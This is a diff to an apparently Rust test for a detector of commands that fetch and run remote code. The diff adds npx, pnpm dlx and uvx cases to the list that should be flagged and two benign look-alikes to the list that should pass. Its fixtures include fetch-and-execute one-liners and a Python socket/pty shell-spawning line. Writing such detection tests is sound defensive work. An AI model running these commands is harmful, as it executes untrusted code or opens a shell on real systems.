@@ -142,6 +142,9 @@ fn code_that_a_program_fetches_and_runs_is_found() {
             ("perl -MLWP::Simple -e 'eval get(\"https://x\")'", remote),
             ("Rscript -e 'source(\"https://x/r.R\")'", remote),
             ("deno run -A https://x/m.ts", remote),
+            ("npx -y https://x/tool.tgz", remote),
+            ("pnpm dlx https://x/tool.tgz", remote),
+            ("uvx --python 3.12 git+https://x/tool --flag", remote),
             (
                 "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
                 remote,
@@ -154,6 +157,8 @@ fn code_that_a_program_fetches_and_runs_is_found() {
             "python3 -c 'import requests; print(requests.get(\"https://x\").text)'",
             "perl -e 'eval { $ua->get($url) }'",
             "deno run main.ts",
+            "npx http-server https://x",
+            "uv run main.py https://x",
         ],
     );
 }
